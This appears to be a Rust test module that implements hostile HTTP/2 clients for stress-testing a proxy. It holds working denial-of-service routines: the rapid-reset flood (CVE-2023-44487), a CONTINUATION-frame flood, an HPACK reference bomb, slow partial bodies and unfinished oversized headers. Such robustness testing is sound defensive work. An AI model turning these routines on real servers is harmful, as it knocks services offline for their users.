//! Clients that mean harm. Each does it until its connection is ended, or it is told enough.

use bytes::BufMut as _;

use crate::frames::{CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, RST_STREAM, Raw, fields, frame};

/// The block of a request for a producer.
pub(crate) fn request(root: &str) -> Vec<u8> {
    fields(&[
        (":method", "POST"),
        (":scheme", "http"),
        (":authority", "scp.example"),
        (":path", "/x"),
        ("3gpp-sbi-target-apiroot", root),
    ])
}

/// Asks, and takes it back at once (CVE-2023-44487).
pub(crate) async fn rapid_resets(raw: &mut Raw, root: &str) {
    let block = request(root);
    for number in 0..20_000_u32 {
        let stream = number * 2 + 1;
        let mut both = frame(HEADERS, END_HEADERS | END_STREAM, stream, &block);
        both.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
        if raw.send_all(&both).await.is_err() {
            return;
        }
    }
}

/// Begins headers, and goes on with pieces of them for ever.
pub(crate) async fn continuations(raw: &mut Raw, piece: &[u8]) {
    let _ = raw.send(HEADERS, 0, 1, &request("http://127.0.0.1:1")).await;
    for _ in 0..100_000 {
        if raw.send(CONTINUATION, 0, 1, piece).await.is_err() {
            return;
        }
    }
}

/// A small block that a table makes large: one entry, referred to over and over (RFC 7541 4).
pub(crate) async fn references(raw: &mut Raw, root: &str, stream: u32) -> std::io::Result<()> {
    let mut block = request(root);
    // Literal with incremental indexing, then its index (62) many times.
    let field = fields(&[("x-bomb", &"a".repeat(3_900))]);
    block.push(0x40);
    block.extend(&field[1..]);
    block.put_bytes(0x80 | 62, 10_000);
    raw.send(HEADERS, END_HEADERS | END_STREAM, stream, &block[..16_000.min(block.len())]).await
}

/// Requests on so many streams, of whose content only the first octet comes.
pub(crate) async fn slow_content(raw: &mut Raw, root: &str, streams: u32) {
    let block = request(root);
    for number in 0..streams {
        let stream = number * 2 + 1;
        let _ = raw.send(HEADERS, END_HEADERS, stream, &block).await;
        let _ = raw.send(DATA, 0, stream, b"{").await;
    }
}

/// Headers as long as they may be, but for their end.
pub(crate) async fn half_headers(raw: &mut Raw) {
    let _ = raw.send(HEADERS, 0, 1, &request("http://127.0.0.1:1")).await;
    let piece = fields(&[("x-a", &"a".repeat(15_000))]);
    for _ in 0..4 {
        let _ = raw.send(CONTINUATION, 0, 1, &piece).await;
    }
}
